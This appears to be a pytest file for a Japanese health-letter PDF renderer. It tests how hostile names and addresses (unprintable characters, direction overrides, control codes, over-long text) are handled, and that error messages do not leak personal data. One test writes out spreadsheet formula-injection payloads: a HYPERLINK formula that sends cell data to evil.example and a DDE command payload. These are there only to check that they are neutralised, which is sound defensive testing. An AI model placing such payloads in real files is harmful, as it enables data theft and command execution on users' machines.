"""Hostile contact data in the letters: characters outside the font, direction
overrides and control characters, addresses at the length limit, formula-looking values, and
contract breaches whose messages must not quote names or addresses.

Every hostile value is made here, at test time; none is committed as a file.
"""

from __future__ import annotations

import unicodedata

import pandas as pd
import pytest

from data.files import FORMULA_STARTS
from scoring.letters import load_catalogue, render_letters
from scoring.letters.schema import LetterRequestError
from scoring.typeset import PLACEHOLDER, font_cmap, printable
from tests.scoring.letter_helpers import _base, config, squash


def _text(path) -> str:
    """Every page's text (PDFium: much faster than pypdf)."""
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(str(path))
    try:
        return "".join(page.get_textpage().get_text_range() for page in doc)
    finally:
        doc.close()


def flat(path) -> str:
    """The text without whitespace (line breaks fall anywhere in Japanese text)."""
    return "".join(_text(path).split())


def _pid(i: int) -> str:
    return f"{i:016x}"


def _row(i: int, **kw) -> dict:
    return _base(pseudonym=_pid(i), person_id=f"12-{i:06d}", postal_code=f"100-{i:04d}", **kw)


# --- 1. characters the font cannot show, direction overrides, control characters -------------

HOSTILE_NAMES = {
    1: ("𠮷野 家子", 1),  # U+20BB7: the 𠮷 of many real names, outside JIS X 0208 and IPAex
    2: ("😀 笑顔 👨\u200d👩\u200d👧 🇯🇵", 6),  # emoji, a ZWJ family, a flag
    3: ("\u202eعلي\u202c 太郎", 3),  # right-to-left text inside a direction override
    4: ("山田\x07\x1b[31m 花子\t\r\n", 0),  # bell, escape, tab, line break
    5: ("\ue000川 \U000f0000子", 2),  # private-use 外字 (how municipal systems store them)
    6: ("葛\U000e0100城 Jose\u0301 \u2066x\u2069\u200f\ufeff\u200b", 0),  # IVS, combining
    7: ("李 \ud800美玲", 1),  # a lone surrogate (a broken decode)
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    rows = [_row(0)]  # one plain letter beside the hostile ones
    rows += [_row(i, name=name) for i, (name, _) in HOSTILE_NAMES.items()]
    rows.append(_row(8, address="\u202d架空区\u202c中央 🏠 1-2-3\x00", name_kana="\u202eカナ"))
    out = tmp_path_factory.mktemp("hostile") / "out"
    return out, render_letters(pd.DataFrame(rows), out, config())


def test_hostile_names_never_stop_the_other_letters(hostile):
    out, m = hostile
    assert m.rendered == 9 and len(m.frame) == 9
    for f in m.frame["file"]:
        assert (out / f).read_bytes().startswith(b"%PDF")
    got = m.frame.set_index("pseudonym")["replaced_characters"]
    for i, (_, replaced) in HOSTILE_NAMES.items():
        assert got[_pid(i)] == replaced, i
    assert got[_pid(0)] == 0 and got[_pid(8)] == 1  # the house emoji


def test_characters_outside_the_font_print_as_the_placeholder(hostile):
    out, m = hostile
    notes = m.frame.set_index("pseudonym")["notes"]
    assert "U+20BB7" in notes[_pid(1)] and "〓" in notes[_pid(1)]
    text = flat(out / "letters" / f"{_pid(1)}.pdf")
    assert "〓野家子様" in text and "𠮷" not in text
    assert "〓川〓子" in flat(out / "letters" / f"{_pid(5)}.pdf")
    assert "〓〓〓太郎" in flat(out / "letters" / f"{_pid(3)}.pdf")
    assert "李〓美玲" in flat(out / "letters" / f"{_pid(7)}.pdf")
    # An ideographic variation selector is dropped (the base kanji prints); e + U+0301 → é.
    six = flat(out / "letters" / f"{_pid(6)}.pdf")
    assert "葛城José" in six and "〓" not in six
    assert "invisible character(s) removed" in notes[_pid(6)]


def test_direction_and_control_characters_are_stripped(hostile):
    out, m = hostile
    invisible = {chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F]}
    invisible |= {"\x07", "\x1b", "\x00", "\ufeff"}
    for f in m.frame["file"]:
        text = _text(out / f)
        assert not invisible & set(text), f
    assert "山田[31m花子様" in flat(out / "letters" / f"{_pid(4)}.pdf")
    eight = flat(out / "letters" / f"{_pid(8)}.pdf")
    assert "架空区中央〓1-2-3" in eight and "カナ" in eight


def test_printable_leaves_only_what_the_font_shows():
    """Any code point of any plane: the printed text holds only characters of the font."""
    cmap = font_cmap()
    every = "".join(chr(c) for c in range(0, 0x110000, 97))
    p = printable(every, cmap)
    assert all(ord(c) in cmap for c in p.text)
    assert len(p.replaced) == p.text.count(PLACEHOLDER) > 1000
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in p.text)


def test_a_sweep_of_every_plane_renders(tmp_path):
    """300-character addresses made of code points from every plane (one in 131): Typst writes
    every letter (PDF/UA), none stops the run."""
    chars = [chr(c) for c in range(0x20, 0x110000, 131)]
    chunks = ["".join(chars[i : i + 300]) for i in range(0, len(chars), 300)]
    rows = [_row(i + 1, address=a, name=a[:100]) for i, a in enumerate(chunks)]
    m = render_letters(pd.DataFrame(rows), tmp_path / "out", config(merge=False))
    assert m.rendered == len(rows) > 25
    assert (m.frame["replaced_characters"] > 0).all()


# --- 3. long addresses wrap and push the name and title down -----------------------------------


def _char_boxes(path) -> list[tuple[str, tuple[float, float, float, float]]]:
    """(character, (left, bottom, right, top)) of every drawn character on page 1 (PDFium)."""
    import pypdfium2 as pdfium
    import pypdfium2.raw as raw

    doc = pdfium.PdfDocument(str(path))
    try:
        tp = doc[0].get_textpage()
        out = []
        for i in range(tp.count_chars()):
            c = chr(raw.FPDFText_GetUnicode(tp.raw, i))
            box = tp.get_charbox(i)
            if c.isspace() or c in "\u200b\x00" or box[2] - box[0] <= 0 or box[3] - box[1] <= 0:
                continue
            out.append((c, box))
        return out
    finally:
        doc.close()


def _overlap(a, b, eps: float = 0.3) -> bool:
    return a[0] + eps < b[2] and b[0] + eps < a[2] and a[1] + eps < b[3] and b[1] + eps < a[3]


# Characters no other part of the letter uses, so that each one found on the page is the
# address's (Japanese: breaks anywhere; Latin: one 300-character "word" that must wrap too).
_JA = "鷲鷹鳩鴨鶴鷺鶯"
_LATIN = "qzxvjwQZXVJW"


@pytest.fixture(scope="module")
def long_addresses(tmp_path_factory):
    ja = (_JA * 50)[:300]
    latin = (_LATIN * 30)[:300]
    rows = [
        _row(1, address=ja),
        _row(2, address=latin, name="髙橋" * 50),  # 100-character name as well
        _row(3, address=ja, language="en"),
        _row(4, address=latin, letter_type="see_doctor", risk=None, risk_band=None, hba1c=7.2),
    ]
    out = tmp_path_factory.mktemp("long") / "out"
    m = render_letters(pd.DataFrame(rows), out, config(merge=False))
    return out, m, {1: ja, 2: latin, 3: ja, 4: latin}


@pytest.mark.parametrize("i", [1, 2, 3, 4])
def test_a_long_address_never_overprints_the_name_or_title(long_addresses, i):
    out, m, addresses = long_addresses
    boxes = _char_boxes(out / "letters" / f"{_pid(i)}.pdf")
    unique = set(_JA if i in (1, 3) else _LATIN)
    addr = [b for c, b in boxes if c in unique]
    others = [(c, b) for c, b in boxes if c not in unique]
    assert len(addr) == 300  # every character printed, none cut off
    hits = [(c, o) for c, o in others if any(_overlap(a, o) for a in addr)]
    assert not hits, hits[:5]
    # The address block sits above the name, the name above the title.
    row = m.frame.set_index("pseudonym").loc[_pid(i)]
    cat = load_catalogue()
    title = cat.ui["title_see_doctor" if row["letter_type"] == "see_doctor" else "title_advice"]
    title = squash(title[row["language"]])
    text = "".join(c for c, _ in others)
    start = text.index(title)
    title_top = max(b[3] for _, b in others[start : start + len(title)])
    name_chars = [b for _, b in others[:start] if _ in "髙橋﨑子様"]
    assert name_chars and min(b[1] for b in addr) > max(b[3] for b in name_chars)
    assert min(b[1] for b in name_chars) > title_top
    # The sender (top right) stays clear of the address too: checked by the overlap above.
    assert "more than the 4 the envelope window shows" in row["notes"]


def test_an_address_that_fits_the_window_has_no_window_note(long_addresses):
    out, m, _ = long_addresses
    m2 = render_letters(
        pd.DataFrame([_row(9)]), out.parent / "short", config(workers=1, merge=False)
    )
    assert "window" not in m2.frame["notes"].iloc[0]


# --- 2. contract breaches: refused with a message that quotes no name or address --------------

SECRET_NAME = "秘密 漏子"
SECRET_ADDRESS = "架空県漏洩市秘密町"


@pytest.mark.parametrize(
    ("change", "column"),
    [
        ({"address": SECRET_ADDRESS * 40}, "address"),  # 360 characters: over the limit
        ({"name": " \u3000 ", "address": SECRET_ADDRESS}, "name"),  # blank
        ({"name": "\u202e\u200b"}, "name"),  # nothing visible
        ({"postal_code": "１２-34"}, "postal_code"),
        ({"postal_code": None}, "postal_code"),
    ],
)
def test_a_contract_breach_names_the_column_never_the_value(tmp_path, change, column):
    from kenshin.errors import format_traceback

    rows = [_row(1, name=SECRET_NAME, address=SECRET_ADDRESS), _row(2)]
    rows[1].update(change)
    with pytest.raises(LetterRequestError) as err:
        render_letters(pd.DataFrame(rows), tmp_path / "out", config(workers=1))
    message = str(err.value)
    assert column in message and "rows [1]" in message
    tb = format_traceback(err.value)
    for secret in ("秘密", "漏洩", "漏子", "１２-34"):
        assert secret not in message and secret not in tb
    assert not (tmp_path / "out").exists()


def test_typst_complaints_are_reported_without_the_text_they_quote():
    from scoring.letters.render import _redacted

    msg = 'PDF/UA-1 error: the text `"𠮷"` could not be displayed with font `"IPAexGothic"`'
    assert "𠮷" not in _redacted(msg) and "could not be displayed" in _redacted(msg)


# --- 5. formula-looking values and unknown languages in the manifest ---------------------------


def test_manifest_cells_never_start_a_formula_and_languages_are_known(tmp_path):
    rows = [
        _row(1, language='=HYPERLINK("http://evil.example/?"&A1,"click")'),
        _row(2, language="+cmd|' /C calc'!A0"),
        _row(3, language="@SUM(1+1)"),
        _row(4, language="-2+3"),
        _row(5, language="\tja"),  # whitespace around a known code is forgiven
        _row(6, language="zh-Hant"),
    ]
    m = render_letters(pd.DataFrame(rows), tmp_path / "out", config(workers=1, merge=False))
    f = m.frame.set_index("pseudonym")
    assert (f["language"] == "ja").all()
    assert list(f["requested_language"]) == ["(invalid)"] * 4 + ["ja", "zh-hant"]
    assert all("not supported" in f.loc[_pid(i), "notes"] for i in (1, 2, 3, 4, 6))
    raw = (tmp_path / "out" / "manifest.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" not in raw and "calc" not in raw
    cells = pd.read_csv(tmp_path / "out" / "manifest.csv", dtype=str, keep_default_na=False)
    for col in cells:
        assert not cells[col].str.startswith(FORMULA_STARTS).any(), col
    # A rerun reads its own manifest back and renders nothing again.
    again = render_letters(pd.DataFrame(rows), tmp_path / "out", config(workers=1, merge=False))
    assert (again.rendered, again.skipped) == (0, 6)
